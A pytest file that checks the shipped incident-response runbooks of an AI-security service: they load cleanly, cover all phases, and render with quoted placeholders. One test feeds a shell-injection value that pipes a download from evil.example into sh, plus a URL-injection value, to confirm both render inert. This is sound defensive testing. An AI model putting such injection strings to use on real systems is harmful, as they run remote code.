"""The shipped runbooks load, check clean and render into usable procedures."""

from __future__ import annotations

from typing import Any

import pytest

from service.runbooks.check import check_dir
from service.runbooks.loader import load_dir
from service.runbooks.match import FALLBACK_RUNBOOK_ID
from service.runbooks.render import render_instance
from service.runbooks.schemas import PHASE_ORDER, RunbookTemplate
from tests.runbooks.conftest import SHIPPED_DIR

SHIPPED_IDS = {
    "unauthorized-model-access",
    "model-exfiltration",
    "privilege-escalation",
    "supply-chain-compromise",
    "training-data-poisoning",
    "inference-attack",
    "api-key-abuse",
    "logging-guardrail-tampering",
    "generic-ai-incident",
    "deployment-without-assurance",
    "agent-misuse",
}


def shipped() -> list[RunbookTemplate]:
    templates, problems = load_dir(SHIPPED_DIR)
    assert problems == []
    return templates


def test_shipped_ids_are_exactly_the_contract() -> None:
    assert {t.id for t in shipped()} == SHIPPED_IDS


def test_shipped_directory_checks_clean() -> None:
    assert check_dir(SHIPPED_DIR) == []


@pytest.mark.parametrize("template", shipped(), ids=lambda t: t.id)
def test_covers_all_phases_with_required_steps_and_a_noted_review(
    template: RunbookTemplate,
) -> None:
    assert list(template.phases) == list(PHASE_ORDER)
    steps = [step for _, step in template.steps()]
    assert any(step.required for step in steps)
    review = [s for s in template.phases[PHASE_ORDER[-1]] if "review" in s.id]
    assert review
    assert all(s.requires_note for s in review)
    assert "AML.T" in template.overview or "T1562" in template.overview
    if template.id != FALLBACK_RUNBOOK_ID:
        assert template.applies_to


@pytest.mark.parametrize("template", shipped(), ids=lambda t: t.id)
def test_renders_for_a_realistic_incident(
    template: RunbookTemplate,
    incident: dict[str, Any],
    group: dict[str, str],
    evidence: list[dict[str, Any]],
) -> None:
    rendered = render_instance(template, incident=incident, group=group, evidence=evidence)

    assert rendered["runbook_id"] == template.id
    assert rendered["content_hash"] == template.content_hash
    assert [p["phase"] for p in rendered["phases"]] == [p.value for p in PHASE_ORDER]
    text = "\n".join(s["instructions"] for p in rendered["phases"] for s in p["steps"])
    assert "{{" not in text
    assert "{%" not in text
    assert "Warning" not in text  # no step degraded
    assert "custody export --incident INC-7 -o INC-7-evidence.zip" in text
    assert "custody verify-bundle INC-7-evidence.zip --public-key" in text
    assert "custody incidents report INC-7 -o INC-7-report.md" in text
    assert "alice@example.com" in text
    assert "| `100` |" in rendered["overview"]  # the evidence table


@pytest.mark.parametrize("template", shipped(), ids=lambda t: t.id)
def test_renders_for_an_incident_without_group_values(template: RunbookTemplate) -> None:
    rendered = render_instance(
        template, incident={"id": "INC-8", "first_seen": "2026-12-01T00:00:00Z"}, group={},
        evidence=[],
    )  # fmt: skip
    text = "\n".join(s["instructions"] for p in rendered["phases"] for s in p["steps"])
    assert "Warning" not in text
    assert "INC-8" in text
    # Placeholders are quoted: unquoted `<actor.id>` would be a shell redirection.
    assert "--actor <" not in text
    assert "--actor '<actor.id>'" in text


def test_hostile_group_values_stay_inert(incident: dict[str, Any]) -> None:
    template = next(t for t in shipped() if t.id == "model-exfiltration")
    hostile = {"actor.id": "x'; curl evil.example | sh; echo '", "resource.id": "m&x=1 #"}

    rendered = render_instance(template, incident=incident, group=hostile, evidence=[])

    text = "\n".join(s["instructions"] for p in rendered["phases"] for s in p["steps"])
    assert "--actor 'x'\"'\"'; curl evil.example | sh; echo '\"'\"''" in text
    assert "resource_id=m%26x%3D1%20%23&" in text
